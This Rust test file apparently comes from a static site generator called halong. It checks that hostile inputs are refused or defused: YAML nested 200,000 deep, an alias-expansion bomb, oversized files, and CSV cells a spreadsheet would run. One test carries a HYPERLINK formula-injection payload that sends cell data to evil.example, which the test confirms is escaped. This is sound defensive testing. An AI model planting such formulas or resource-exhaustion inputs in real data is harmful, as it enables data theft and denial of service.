//! Hostile or careless content: each file that once hung a build, exhausted its
//! memory or slipped through gives a diagnostic at its file and line, and open data
//! cannot attack the people who open it. Inputs too large to keep as fixtures in
//! `tests/bad-input/` are made here.

mod common;

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

/// Runs `halong check` on `site` written to disk, giving up after a generous
/// `limit` (the assertion is on what it prints, not on how fast).
fn check_within(site: &SiteTest, limit: Duration) -> String {
    let dir = tempfile::tempdir().unwrap();
    site.write_to(dir.path());
    let mut child = Command::new(env!("CARGO_BIN_EXE_halong"))
        .args(["check", "--root", dir.path().to_str().unwrap()])
        .env("NO_COLOR", "1")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run halong");
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            child.kill().unwrap();
            panic!("halong check did not finish in {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(1), "check must fail");
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

#[test]
fn yaml_nested_200000_levels_deep_is_refused_at_its_line() {
    let depth = 200_000;
    let text = format!(
        "name: {{vi: Bê Ta, en: Beta}}\nstatus: planned\nsectors: {}{}\n",
        "[".repeat(depth),
        "]".repeat(depth)
    );
    let site = SiteTest::new().with_file("content/parks/park-beta.yaml", &text);
    let printed = check_within(&site, Duration::from_secs(120));
    // The mapping is one level, `sectors:`'s lists the rest: the 128th `[` is too deep.
    assert!(
        printed.contains("error[E0112]: lists and mappings are nested more than 128 levels deep"),
        "{}",
        &printed[..printed.len().min(2000)]
    );
    assert!(
        printed.contains("--> content/parks/park-beta.yaml:3:137"),
        "{}",
        &printed[..printed.len().min(2000)]
    );
    // The 400 kB line is shown around the caret, not whole.
    assert!(printed.len() < 5000, "{} bytes printed", printed.len());
}

#[test]
fn aliases_that_would_expand_to_millions_of_values_are_refused() {
    // 10 kB: 2,000 aliases of a 2,000-item list were four million values (330 MB).
    let items = vec!["x"; 2000].join(", ");
    let aliases = vec!["*a"; 2000].join(", ");
    let text =
        format!("name: {{vi: Bê Ta, en: Beta}}\naliases: &a [{items}]\nsectors: [{aliases}]\n");
    let errors = SiteTest::new()
        .with_file("content/parks/park-beta.yaml", &text)
        .build_errors();
    let error = errors.iter().find(|d| d.code == "E0112").expect("E0112");
    assert_eq!(error.file, Path::new("content/parks/park-beta.yaml"));
    assert!(
        error.message.contains("more than 1,000,000 values"),
        "{}",
        error.message
    );
}

#[test]
fn a_content_file_over_the_size_limit_is_refused_with_the_limit() {
    let mut text = String::from("name: {vi: Bê Ta, en: Beta}\n");
    while text.len() <= 2 * 1024 * 1024 {
        text.push_str("# padding that makes this file larger than any real one\n");
    }
    let errors = SiteTest::new()
        .with_file("content/parks/park-beta.yaml", &text)
        .build_errors();
    assert_eq!(
        error_lines(&errors),
        ["E0003 content/parks/park-beta.yaml:1:1"]
    );
    assert_eq!(
        errors[0].message,
        "this file is 2.1 MB; halong reads text files of up to 2 MB"
    );
}

#[test]
fn a_file_with_a_hundred_thousand_problems_shows_a_hundred_and_counts_the_rest() {
    let mut text = String::from("name: {vi: Bê Ta, en: Beta}\n");
    for index in 0..100_000 {
        text.push_str(&format!("unknown_{index}: 1\n"));
    }
    let site = SiteTest::new().with_file("content/parks/park-beta.yaml", &text);
    let printed = check_within(&site, Duration::from_secs(120));
    assert!(
        printed.contains("error[E0104]: unknown field `unknown_0`"),
        "{}",
        &printed[..2000]
    );
    assert!(printed.contains("--> content/parks/park-beta.yaml:2:1"));
    assert!(printed.contains("--> content/parks/park-beta.yaml:101:1"));
    assert!(!printed.contains("unknown_100`"), "the 101st is not shown");
    assert!(
        printed.contains("error[E0004]: 99900 more problems in this file are not shown"),
        "{}",
        &printed[printed.len().saturating_sub(2000)..]
    );
}

#[test]
fn open_data_cells_that_a_spreadsheet_would_run_are_text() {
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")\nsecond line";
    let park = format!(
        "name: {{vi: {vi:?}, en: \"+Beta, \\\"the\\\" park\"}}\nstatus: planned\n\
         facts:\n  total_area: {{value: 300, unit: ha, source: src-one, as_of: 2025-01-02}}\n",
        vi = name
    );
    let files = SiteTest::new()
        .with_file("content/parks/park-beta.yaml", &park)
        .build();
    let rows = read_csv(page(&files, "data/parks.csv"));
    let header = &rows[0];
    assert_eq!(rows.len(), 3, "a header and two parks: {rows:?}");
    for row in &rows {
        assert_eq!(row.len(), header.len(), "{row:?}");
    }
    let beta = rows.iter().find(|row| row[0] == "park-beta").unwrap();
    let cell = |column: &str| &beta[header.iter().position(|h| h == column).unwrap()];
    assert_eq!(cell("name_vi"), &format!("'{name}"));
    assert_eq!(cell("name_en"), "'+Beta, \"the\" park");
    assert_eq!(cell("total_area"), "300", "numbers stay numbers");
    for row in &rows {
        for value in row {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {value:?}"
            );
        }
    }
}

#[test]
fn headings_on_a_page_have_unique_ids_and_transliterated_slugs() {
    let body = "## Scope\n\nA.\n\n## Scope\n\nB.\n\n## Scope 2\n\nC.\n\n## Partners {#scope-3}\n\n\
                D.\n\n## Ørsted and Đông Mai\n\nE.\n";
    let files = SiteTest::new()
        .with_file(
            "content/pages/about.en.md",
            &format!("---\ntitle: About\nsummary: About it.\n---\n{body}"),
        )
        .build();
    let html = page(&files, "en/about/index.html");
    let ids = attribute_values(html, "id");
    for id in [
        "scope",
        "scope-2",
        "scope-2-2",
        "scope-3",
        "orsted-and-dong-mai",
    ] {
        assert_eq!(
            ids.iter().filter(|found| *found == id).count(),
            1,
            "{id} in {ids:?}"
        );
    }
}

#[cfg(unix)]
#[test]
fn skipped_hidden_files_and_links_are_warned_about_and_junk_is_not() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("site");
    SiteTest::new()
        .with_file(
            "content/parks/.park-gamma.yaml",
            "name: {vi: Ga, en: Gamma}\n",
        )
        .with_file("content/parks/.DS_Store", "\0\0junk")
        .with_file("content/parks/.park-beta.yaml.swp", "\0\0swap")
        .with_file("static/Thumbs.db", "\0\0junk")
        .write_to(&root);
    std::fs::write(dir.path().join("outside.yaml"), "name: x\n").unwrap();
    std::os::unix::fs::symlink(
        dir.path().join("outside.yaml"),
        root.join("content/parks/linked.yaml"),
    )
    .unwrap();
    let run = halong(&["check", "--root", root.to_str().unwrap()]);
    let printed = format!("{}{}", run.stdout, run.stderr);
    assert_eq!(run.status.code(), Some(0), "{printed}");
    assert!(
        printed.contains("warning[W0002]: `content/parks/.park-gamma.yaml` is hidden"),
        "{printed}"
    );
    assert!(
        printed.contains("warning[W0001]: `content/parks/linked.yaml` is a symbolic link"),
        "{printed}"
    );
    assert_eq!(printed.matches("W0002").count(), 1, "once: {printed}");
    for junk in [".DS_Store", ".swp", "Thumbs.db"] {
        assert!(!printed.contains(junk), "{junk} is junk: {printed}");
    }
    let output = dir.path().join("public");
    let run = cli_build(&root, &output, None);
    assert!(run.status.success(), "{}", run.stderr);
    assert!(!output.join("Thumbs.db").exists());
}
